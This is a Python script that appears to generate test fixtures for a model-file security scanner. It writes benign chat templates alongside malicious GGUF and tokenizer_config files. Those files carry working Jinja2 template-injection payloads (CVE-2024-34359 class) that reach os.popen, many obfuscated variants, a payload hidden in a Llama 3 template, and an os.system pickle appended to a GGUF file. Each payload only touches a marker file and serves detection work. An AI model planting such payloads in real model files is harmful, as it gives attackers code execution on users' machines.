# zai-org/GLM-4.6 (llama.cpp models/templates)
BENIGN["glm_4_6"] = r'''[gMASK]<sop>
{%- if tools -%}
<|system|>
# Tools

You may call one or more functions to assist with the user query.

You are provided with function signatures within <tools></tools> XML tags:
<tools>
{% for tool in tools %}
{{ tool | tojson(ensure_ascii=False) }}
{% endfor %}
</tools>

For each function call, output the function name and arguments within the following XML format:
<tool_call>{function-name}
<arg_key>{arg-key-1}</arg_key>
<arg_value>{arg-value-1}</arg_value>
<arg_key>{arg-key-2}</arg_key>
<arg_value>{arg-value-2}</arg_value>
...
</tool_call>{%- endif -%}
{%- macro visible_text(content) -%}
    {%- if content is string -%}
        {{- content }}
    {%- elif content is iterable and content is not mapping -%}
        {%- for item in content -%}
            {%- if item is mapping and item.type == 'text' -%}
                {{- item.text }}
            {%- elif item is string -%}
                {{- item }}
            {%- endif -%}
        {%- endfor -%}
    {%- else -%}
        {{- content }}
    {%- endif -%}
{%- endmacro -%}
{%- set ns = namespace(last_user_index=-1) %}
{%- for m in messages %}
    {%- if m.role == 'user' %}
        {% set ns.last_user_index = loop.index0 -%}
    {%- endif %}
{%- endfor %}
{% for m in messages %}
{%- if m.role == 'user' -%}<|user|>
{{ visible_text(m.content) }}
{{- '/nothink' if (enable_thinking is defined and not enable_thinking and not visible_text(m.content).endswith("/nothink")) else '' -}}
{%- elif m.role == 'assistant' -%}
<|assistant|>
{%- set reasoning_content = '' %}
{%- set content = visible_text(m.content) %}
{%- if m.reasoning_content is string %}
    {%- set reasoning_content = m.reasoning_content %}
{%- else %}
    {%- if '</think>' in content %}
        {%- set reasoning_content = content.split('</think>')[0].rstrip('\n').split('<think>')[-1].lstrip('\n') %}
        {%- set content = content.split('</think>')[-1].lstrip('\n') %}
    {%- endif %}
{%- endif %}
{%- if loop.index0 > ns.last_user_index and reasoning_content -%}
{{ '\n<think>' + reasoning_content.strip() +  '</think>'}}
{%- else -%}
{{ '\n<think></think>' }}
{%- endif -%}
{%- if content.strip() -%}
{{ '\n' + content.strip() }}
{%- endif -%}
{% if m.tool_calls %}
{% for tc in m.tool_calls %}
{%- if tc.function %}
    {%- set tc = tc.function %}
{%- endif %}
{{ '\n<tool_call>' + tc.name }}
{% set _args = tc.arguments or {} %}
{% for k, v in _args.items() %}
<arg_key>{{ k }}</arg_key>
<arg_value>{{ v | tojson(ensure_ascii=False) if v is not string else v }}</arg_value>
{% endfor %}
</tool_call>{% endfor %}
{% endif %}
{%- elif m.role == 'tool' -%}
{%- if m.content is string -%}
{%- if loop.first or (messages[loop.index0 - 1].role != "tool") %}
    {{- '<|observation|>' }}
{%- endif %}
{{- '\n<tool_response>\n' }}
{{- m.content }}
{{- '\n</tool_response>' }}
{%- else -%}
<|observation|>{% for tr in m.content %}

<tool_response>
{{ tr.output if tr.output is defined else tr }}
</tool_response>{% endfor -%}
{% endif -%}
{%- elif m.role == 'system' -%}
<|system|>
{{ visible_text(m.content) }}
{%- endif -%}
{%- endfor -%}
{%- if add_generation_prompt -%}
    <|assistant|>{{- '\n<think></think>' if (enable_thinking is defined and not enable_thinking) else '' -}}
{%- endif -%}
'''

# ---------------------------------------------------------------------------
# Malicious templates (CVE-2024-34359 class). Each touches the marker only.
# ---------------------------------------------------------------------------
P = "os.popen('%s').read()" % TOUCH.replace("'", "\\'")
MALICIOUS = {
    # The published "Llama Drama" proof of concept shape.
    "cve_2024_34359_subclasses": "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('" + TOUCH + "').read() }}{% endif %}{% endfor %}",
    "cycler_globals": "{{ cycler.__init__.__globals__." + P + " }}",
    "joiner_globals": "{{ joiner.__init__.__globals__['os'].popen('" + TOUCH + "').read() }}",
    "lipsum_globals": "{{ lipsum.__globals__['os'].popen('" + TOUCH + "').read() }}",
    "namespace_globals": "{{ namespace.__init__.__globals__." + P + " }}",
    "self_context": "{{ self._TemplateReference__context.cycler.__init__.__globals__." + P + " }}",
    "attr_concat": "{{ (cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__'))['o' ~ 's']|attr('popen')('" + TOUCH + "')|attr('read')() }}",
    "hex_escapes": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f']['\\x6fs'].popen('" + TOUCH + "').read() }}",
    "join_format": "{% set g = ['__glo', 'bals__']|join %}{% set i = '%c%cinit%c%c'|format(95, 95, 95, 95) %}{{ (cycler|attr(i)|attr(g))['os'].popen('" + TOUCH + "').read() }}",
    "dict_keys": "{% set i = dict(__init__=1)|first %}{% set g = dict(__globals__=1)|list|first %}{{ (cycler|attr(i)|attr(g)).os.popen('" + TOUCH + "').read() }}",
    "block_set": "{% set i %}__init__{% endset %}{% set g %}__globals__{% endset %}{{ (cycler|attr(i)|attr(g)).os.popen('" + TOUCH + "').read() }}",
    "reversed": "{{ (cycler|attr('__tini__'[::-1])|attr('__slabolg__'[::-1]))['so'[::-1]].popen('" + TOUCH + "').read() }}",
    "char_picking": "{% set u = (lipsum|string|list)[18] %}{% set g = u ~ u ~ 'globals' ~ u ~ u %}{{ (lipsum|attr(g))['os'].popen('" + TOUCH + "').read() }}",
    "macro_indirection": "{% macro hop(o, n) %}{{ o|attr(n) }}{% endmacro %}{% set m = cycler.__init__.__globals__ %}{{ m.os.popen('" + TOUCH + "').read() }}",
    # A working Llama 3 template with the payload hidden in the loop.
    "llama3_hidden": "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% if cycler.__init__.__globals__.os.popen('" + TOUCH + "').read() %}{% endif %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}",
}

MESSAGES = [{"role": "system", "content": "You are helpful."},
            {"role": "user", "content": "Hello"},
            {"role": "assistant", "content": "Hi! How can I help?"},
            {"role": "user", "content": "Tell me a joke."}]

RENDER = r'''
import json, sys, datetime
import jinja2, jinja2.sandbox, jinja2.ext
mode, path = sys.argv[1], sys.argv[2]
tpl = open(path, encoding="utf-8").read()
msgs = json.loads(sys.argv[3])
def raise_exception(m):
    raise jinja2.exceptions.TemplateError(m)
kw = dict(messages=msgs, bos_token="<s>", eos_token="</s>", add_generation_prompt=True,
          raise_exception=raise_exception)
if mode == "llama-cpp":
    env = jinja2.Environment(loader=jinja2.BaseLoader(), trim_blocks=True, lstrip_blocks=True)
else:
    # transformers' apply_chat_template environment
    env = jinja2.sandbox.ImmutableSandboxedEnvironment(trim_blocks=True, lstrip_blocks=True,
                                                       extensions=[jinja2.ext.loopcontrols])
    env.filters["tojson"] = lambda x, indent=None, **k: json.dumps(x, ensure_ascii=False, indent=indent)
    env.globals["raise_exception"] = raise_exception
    env.globals["strftime_now"] = lambda f: datetime.datetime.now().strftime(f)
try:
    try:
        out = env.from_string(tpl).render(**kw)
    except jinja2.exceptions.SecurityError:
        raise
    except jinja2.exceptions.TemplateError:
        # Templates such as Gemma's and Mistral's refuse a system turn.
        kw["messages"] = msgs[1:]
        out = env.from_string(tpl).render(**kw)
except jinja2.exceptions.SecurityError as e:
    print("SECURITY", e); sys.exit(3)
print(out[:200])
'''


def render(mode, template):
    """Render template in a throwaway subprocess; return (rc, marker_touched)."""
    with tempfile.TemporaryDirectory() as d:
        tp = os.path.join(d, "t.jinja")
        with open(tp, "w", encoding="utf-8") as f:
            f.write(template)
        marker = os.path.join(d, "marker")
        env = dict(os.environ, MODELGATE_MARKER=marker)
        r = subprocess.run(["/usr/bin/python3", "-c", RENDER, mode, tp, json.dumps(MESSAGES)],
                           env=env, cwd=d, capture_output=True, text=True, timeout=60)
        return r.returncode, os.path.exists(marker), r.stdout + r.stderr


# ---------------------------------------------------------------------------
# GGUF writer (spec: ggml docs/gguf.md)
# ---------------------------------------------------------------------------
U8, I8, U16, I16, U32, I32, F32, BOOL, STR, ARR, U64, I64, F64 = range(13)
FMT = {U8: "B", I8: "b", U16: "H", I16: "h", U32: "I", I32: "i", F32: "f", BOOL: "?",
       U64: "Q", I64: "q", F64: "d"}


class GGUF:
    def __init__(self, version=3, big=False, alignment=32):
        self.v, self.e, self.align = version, (">" if big else "<"), alignment
        self.kv, self.tensors = [], []

    def cnt(self, n):
        return struct.pack(self.e + ("I" if self.v == 1 else "Q"), n)

    def s(self, text):
        b = text.encode("utf-8")
        return self.cnt(len(b)) + b

    def val(self, t, v):
        if t == STR:
            return self.s(v)
        if t == ARR:
            et, items = v
            return struct.pack(self.e + "I", et) + self.cnt(len(items)) + b"".join(self.val(et, x) for x in items)
        return struct.pack(self.e + FMT[t], v)

    def add(self, key, t, v):
        self.kv.append((key, t, v))

    def tensor(self, name, ggml_type, shape, data):
        self.tensors.append((name, ggml_type, shape, data))

    def bytes(self):
        out = bytearray(b"GGUF" + struct.pack(self.e + "I", self.v))
        out += self.cnt(len(self.tensors)) + self.cnt(len(self.kv))
        for k, t, v in self.kv:
            out += self.s(k) + struct.pack(self.e + "I", t) + self.val(t, v)
        off = 0
        layout = []
        for name, gt, shape, data in self.tensors:
            out += self.s(name) + struct.pack(self.e + "I", len(shape))
            for d in shape:
                out += self.cnt(d)
            out += struct.pack(self.e + "I", gt) + struct.pack(self.e + "Q", off)
            layout.append(off)
            off += len(data)
            off += (-off) % self.align
        if self.tensors:
            out += b"\0" * ((-len(out)) % self.align)
            for (name, gt, shape, data) in self.tensors:
                out += data
                out += b"\0" * ((-len(data)) % self.align)
        return bytes(out)


def read_gguf_strings(data):
    """Independent reader: every (key, string) in a GGUF's metadata."""
    v = struct.unpack_from("<I", data, 4)[0]
    e = "<"
    if v > 0xFFFF:
        e, v = ">", struct.unpack_from(">I", data, 4)[0]
    pos = 8
    def cnt():
        nonlocal pos
        if v == 1:
            n = struct.unpack_from(e + "I", data, pos)[0]; pos += 4
        else:
            n = struct.unpack_from(e + "Q", data, pos)[0]; pos += 8
        return n
    def s():
        nonlocal pos
        n = cnt(); r = data[pos:pos + n].decode("utf-8"); pos += n
        return r
    sizes = {U8: 1, I8: 1, U16: 2, I16: 2, U32: 4, I32: 4, F32: 4, BOOL: 1, U64: 8, I64: 8, F64: 8}
    found = []
    def value(key, t):
        nonlocal pos
        if t == STR:
            found.append((key, s()))
        elif t == ARR:
            et = struct.unpack_from(e + "I", data, pos)[0]; pos += 4
            for _ in range(cnt()):
                value(key, et)
        else:
            pos += sizes[t]
    nt = cnt(); nkv = cnt()
    for _ in range(nkv):
        k = s(); t = struct.unpack_from(e + "I", data, pos)[0]; pos += 4
        value(k, t)
    return found


def base_gguf(template, version=3, big=False, name="tiny", arch="llama", extra=None, alignment=32):
    g = GGUF(version, big, alignment)
    g.add("general.architecture", STR, arch)
    g.add("general.name", STR, name)
    if alignment != 32:
        g.add("general.alignment", U32, alignment)
    g.add("general.file_type", U32, 1)
    g.add("%s.context_length" % arch, U32, 2048)
    g.add("%s.embedding_length" % arch, U32, 8)
    g.add("%s.rope.freq_base" % arch, F32, 10000.0)
    g.add("tokenizer.ggml.model", STR, "llama")
    toks = ["<unk>", "<s>", "</s>", "\u2581the", "\u2581a", "{", "}", "{{", "%"]
    g.add("tokenizer.ggml.tokens", ARR, (STR, toks))
    g.add("tokenizer.ggml.scores", ARR, (F32, [0.0] * len(toks)))
    g.add("tokenizer.ggml.token_type", ARR, (I32, [2, 3, 3] + [1] * (len(toks) - 3)))
    g.add("tokenizer.ggml.bos_token_id", U32, 1)
    g.add("tokenizer.ggml.eos_token_id", U32, 2)
    g.add("tokenizer.ggml.add_bos_token", BOOL, True)
    if version >= 2:
        g.add("general.size_label", STR, "1K")
        g.add("general.parameter_count", U64, 96)
        g.add("general.quantized_by", STR, "modelgate fixtures")
    for k, t, v in (extra or []):
        g.add(k, t, v)
    if template is not None:
        g.add("tokenizer.chat_template", STR, template)
    import numpy as np
    g.tensor("token_embd.weight", 0, [8, 9], np.arange(72, dtype=np.float32).astype(">f4" if big else "<f4").tobytes())
    g.tensor("output_norm.weight", 1, [8], np.ones(8, dtype=np.float16).astype(">f2" if big else "<f2").tobytes())
    # One Q8_0 block: fp16 scale + 32 int8.
    g.tensor("blk.0.attn_q.weight", 8, [32, 1], np.float16(0.5).astype(">f2" if big else "<f2").tobytes() + bytes(range(32)))
    return g


def main():
    os.environ.setdefault("PYTHONHASHSEED", "0")
    manifest = []
    for sub in ("benign/gguf", "malicious/gguf"):
        os.makedirs(os.path.join(FIX, sub), exist_ok=True)
    for sub in ("benign", "malicious"):
        os.makedirs(os.path.join(JT, sub), exist_ok=True)

    # Benign templates: sandbox-renderable, no marker.
    for name, t in sorted(BENIGN.items()):
        rc, touched, out = render("sandbox", t)
        if rc != 0 or touched:
            sys.exit("benign template %s failed in the sandbox: rc=%d %s" % (name, rc, out))
        with open(os.path.join(JT, "benign", name + ".jinja"), "w", encoding="utf-8") as f:
            f.write(t)

    # Malicious templates: live under llama-cpp's environment, blocked by the sandbox.
    for name, t in sorted(MALICIOUS.items()):
        rc, touched, out = render("llama-cpp", t)
        if not touched:
            sys.exit("malicious template %s did not run: rc=%d %s" % (name, rc, out))
        rc2, touched2, out2 = render("sandbox", t)
        if touched2 or rc2 == 0:
            sys.exit("malicious template %s was not blocked by the sandbox: %s" % (name, out2))
        with open(os.path.join(JT, "malicious", name + ".jinja"), "w", encoding="utf-8") as f:
            f.write(t)

    def write(rel, data):
        with open(os.path.join(FIX, rel), "wb") as f:
            f.write(data)

    def entry(rel, label, technique, catalogue, loader, proven, fmt="gguf"):
        manifest.append({"file": rel, "label": label, "format": fmt, "technique": technique,
                         "catalogue": catalogue, "loader": loader, "proven": proven})

    # Benign GGUFs: one per published template, plus version/byte-order coverage.
    variants = {"llama3": dict(version=3), "mistral": dict(version=2), "llama2": dict(version=1),
                "gemma": dict(version=3, big=True), "qwen2_5_tools": dict(version=3, alignment=64)}
    for name, t in sorted(BENIGN.items()):
        kw = variants.get(name, {})
        extra = []
        if name == "qwen2_5_tools":
            # A second, named template and a nested array, as newer converters write.
            extra = [("tokenizer.chat_template.tool_use", STR, t),
                     ("tokenizer.chat_templates", ARR, (STR, ["tool_use"])),
                     ("tokenizer.ggml.merges", ARR, (STR, ["\u0120 t", "\u0120 a"])),
                     ("test.nested", ARR, (ARR, [(I32, [1, 2]), (I32, [3])]))]
        data = base_gguf(t, name=name, extra=extra, **kw).bytes()
        rel = "benign/gguf/%s.gguf" % name
        got = [s for k, s in read_gguf_strings(data) if k == "tokenizer.chat_template"]
        assert got == [t], name
        rc, touched, out = render("sandbox", got[0])
        assert rc == 0 and not touched, (name, out)
        write(rel, data)
        desc = "GGUF v%d%s with the published %s chat template" % (kw.get("version", 3), " big-endian" if kw.get("big") else "", name)
        entry(rel, "benign", desc + "; written by the spec writer in this script (Debian has no python3-gguf); template renders in jinja2's ImmutableSandboxedEnvironment", "",
              "jinja2 ImmutableSandboxedEnvironment (transformers-style) render of the template read back from the file", True)
    # A vocabulary-only GGUF without a template.
    g = base_gguf(None, name="vocab-only")
    g.tensors = []
    write("benign/gguf/vocab_only.gguf", g.bytes())
    entry("benign/gguf/vocab_only.gguf", "benign", "GGUF v3 without tensors or chat template (vocab-only file)", "", "none", False)

    # Malicious GGUFs: each payload read back from the file and rendered.
    for name, t in sorted(MALICIOUS.items()):
        extra = []
        template = t
        if name == "llama3_hidden":
            pass
        data = base_gguf(template, name=name, extra=extra).bytes()
        got = [s for k, s in read_gguf_strings(data) if k == "tokenizer.chat_template"][0]
        rc, touched, out = render("llama-cpp", got)
        if not touched:
            sys.exit("GGUF %s: payload did not run" % name)
        rel = "malicious/gguf/%s.gguf" % name
        write(rel, data)
        entry(rel, "malicious", "tokenizer.chat_template Jinja2 SSTI (%s); rendering touched the marker" % name,
              "3.3.31", LOADER, True)
    # Payload only in a named template (tokenizer.chat_template.tool_use), default is benign.
    data = base_gguf(BENIGN["qwen2"], name="named", extra=[
        ("tokenizer.chat_template.tool_use", STR, MALICIOUS["cycler_globals"]),
        ("tokenizer.chat_templates", ARR, (STR, ["tool_use"]))]).bytes()
    got = [s for k, s in read_gguf_strings(data) if k == "tokenizer.chat_template.tool_use"][0]
    rc, touched, out = render("llama-cpp", got)
    assert touched
    write("malicious/gguf/named_template_payload.gguf", data)
    entry("malicious/gguf/named_template_payload.gguf", "malicious",
          "payload in the named template tokenizer.chat_template.tool_use while the default template is the published Qwen2 one",
          "3.3.31", LOADER, True)
    # Payload in a v1 and in a big-endian file.
    for rel, kw in (("malicious/gguf/v1_payload.gguf", dict(version=1)), ("malicious/gguf/big_endian_payload.gguf", dict(big=True))):
        data = base_gguf(MALICIOUS["lipsum_globals"], name="x", **kw).bytes()
        got = [s for k, s in read_gguf_strings(data) if k == "tokenizer.chat_template"][0]
        assert render("llama-cpp", got)[1]
        write(rel, data)
        entry(rel, "malicious", "lipsum.__globals__ payload in a GGUF v%d%s file" % (kw.get("version", 3), " big-endian" if kw.get("big") else ""),
              "3.3.31", LOADER, True)
    # Trailing pickle after the tensor data (polyglot).
    import pickle
    class P:
        def __reduce__(self):
            return (os.system, (TOUCH,))
    data = base_gguf(BENIGN["llama3"], name="trailing").bytes() + pickle.dumps(P(), protocol=2)
    write("malicious/gguf/trailing_pickle.gguf", data)
    entry("malicious/gguf/trailing_pickle.gguf", "malicious",
          "benign GGUF with an os.system pickle appended after the tensor data (polyglot); no GGUF loader reads it, so not proven",
          "3.2.21", "none (polyglot payload for a pickle-reading loader)", False)

    # tokenizer_config.json files.
    os.makedirs(os.path.join(FIX, "benign", "tokenizer"), exist_ok=True)
    os.makedirs(os.path.join(FIX, "malicious", "tokenizer"), exist_ok=True)
    def tok_config(template):
        return {"add_bos_token": True, "add_eos_token": False,
                "added_tokens_decoder": {"0": {"content": "<unk>", "lstrip": False, "normalized": False,
                                               "rstrip": False, "single_word": False, "special": True}},
                "bos_token": "<s>", "chat_template": template, "clean_up_tokenization_spaces": False,
                "eos_token": "</s>", "legacy": False, "model_max_length": 1000000000000000019884624838656,
                "tokenizer_class": "LlamaTokenizer", "unk_token": "<unk>"}
    def prove_json(path, mode):
        cfg = json.load(open(path, encoding="utf-8"))
        ct = cfg["chat_template"]
        tpls = [ct] if isinstance(ct, str) else [x["template"] for x in ct]
        return [render(mode, t) for t in tpls]
    def write_json(rel, obj, raw=None):
        p = os.path.join(FIX, rel)
        with open(p, "w", encoding="utf-8") as f:
            f.write(raw if raw is not None else json.dumps(obj, indent=2, ensure_ascii=False) + "\n")
        return p
    for name in ("llama3_2_tools", "deepseek_r1_distill", "mistral_v03_tools"):
        rel = "benign/tokenizer/%s_tokenizer_config.json" % name
        p = write_json(rel, tok_config(BENIGN[name]))
        assert all(rc == 0 and not t for rc, t, _ in prove_json(p, "sandbox"))
        entry(rel, "benign", "tokenizer_config.json with the published %s chat template" % name, "",
              "transformers-style apply_chat_template (jinja2 ImmutableSandboxedEnvironment)", True, fmt="tokenizer-config")
    rel = "benign/tokenizer/qwen_named_templates_tokenizer_config.json"
    p = write_json(rel, tok_config([{"name": "default", "template": BENIGN["qwen2"]},
                                    {"name": "tool_use", "template": BENIGN["qwen2_5_tools"]}]))
    assert all(rc == 0 and not t for rc, t, _ in prove_json(p, "sandbox"))
    entry(rel, "benign", "tokenizer_config.json with a list of named chat templates (Qwen2 / Qwen2.5 tools)", "",
          "transformers-style apply_chat_template (jinja2 ImmutableSandboxedEnvironment)", True, fmt="tokenizer-config")
    rel = "benign/tokenizer/config_without_template.json"
    write_json(rel, {"architectures": ["LlamaForCausalLM"], "hidden_size": 8, "model_type": "llama"})
    entry(rel, "benign", "plain config.json without a chat template", "", "none", False, fmt="json")

    for name in ("cycler_globals", "attr_concat", "llama3_hidden"):
        rel = "malicious/tokenizer/%s_tokenizer_config.json" % name
        p = write_json(rel, tok_config(MALICIOUS[name]))
        assert any(t for _, t, _ in prove_json(p, "llama-cpp"))
        entry(rel, "malicious", "tokenizer_config.json chat_template SSTI (%s); rendering touched the marker" % name,
              "3.3.31", LOADER, True, fmt="tokenizer-config")
    rel = "malicious/tokenizer/named_tool_use_tokenizer_config.json"
    p = write_json(rel, tok_config([{"name": "default", "template": BENIGN["qwen2"]},
                                    {"name": "tool_use", "template": MALICIOUS["dict_keys"]}]))
    assert any(t for _, t, _ in prove_json(p, "llama-cpp"))
    entry(rel, "malicious", "payload only in the named tool_use template of a chat_template list", "3.3.31", LOADER, True, fmt="tokenizer-config")
    # The key written with a JSON escape: json.loads decodes it to chat_template.
    rel = "malicious/tokenizer/escaped_key_tokenizer_config.json"
    raw = json.dumps(tok_config(MALICIOUS["hex_escapes"]), indent=2).replace('"chat_template"', '"chat\\u005ftemplate"')
    assert '"chat_template"' not in raw
    p = write_json(rel, None, raw=raw + "\n")
    assert any(t for _, t, _ in prove_json(p, "llama-cpp"))
    entry(rel, "malicious", "chat_template key spelled chat\\u005ftemplate (json.loads decodes it), hex-escaped payload", "3.3.31", LOADER, True, fmt="tokenizer-config")

    manifest.sort(key=lambda e: e["file"])
    with open(os.path.join(FIX, "manifest-gguf.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    print("wrote %d fixtures, %d benign and %d malicious templates" % (len(manifest), len(BENIGN), len(MALICIOUS)))


if __name__ == "__main__":
    main()
